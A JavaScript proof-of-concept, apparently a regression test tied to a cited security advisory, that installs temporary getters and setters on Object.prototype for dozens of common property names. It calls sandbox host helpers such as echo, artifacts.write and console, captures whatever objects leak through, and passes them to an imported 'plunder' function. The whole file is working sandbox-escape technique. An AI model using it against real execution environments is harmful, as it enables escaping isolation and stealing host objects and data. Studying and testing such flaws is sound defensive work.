// Accessors on Object.prototype for the names that our own objects use (GHSA-c4cf-2hgv-2qv6).
const { collector, plunder } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  const names = ['id', 'ok', 'json', 'code', 'message', 'then', 'path', 'args', 'kind', 'file', 'root', 'toJSON', 'reason', 'name', 'stack', 'cause',
    'contentType', 'resolve', 'reject', 'value', 'writable', 'get', 'set', 'exports', 'default', 'execute', 'last', 'pending', 'level', 'text', 'maxDepth',
    'params', 'env', 'helpers', 'alias', 'callback', 'values', 'nesting', 'depth', 'seen', 'stylize', 'transfer', 'bubbles', 'reference', 'copy', 'promise', 'timeout'];
  const calls = [
    () => echo({ x: 1 }), () => echoSync([1]), () => failSync(), () => console.log({ x: 1 }), () => console.table([{ x: 1 }]),
    () => artifacts.write('a', 'b', {}), () => progress(0.1), () => setTimeout(() => 1, 0), () => require('./missing.js'),
    () => import('./missing.js'), () => structuredClone({ a: 1 }), () => new URL('http://a/'), () => new Event('x'), () => tricky(),
  ];
  for (const name of names) {
    for (const call of calls) {
      let result;
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        get() { bag.take(this); },
        set(value) { bag.take(this, value); Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true }); },
      });
      try {
        result = call();
      } catch (error) {
        result = error;
      }
      delete Object.prototype[name];
      result?.then?.((value) => bag.take(value), (error) => bag.take(error));
    }
    await null;
  }
  return plunder(bag.values(), params);
}
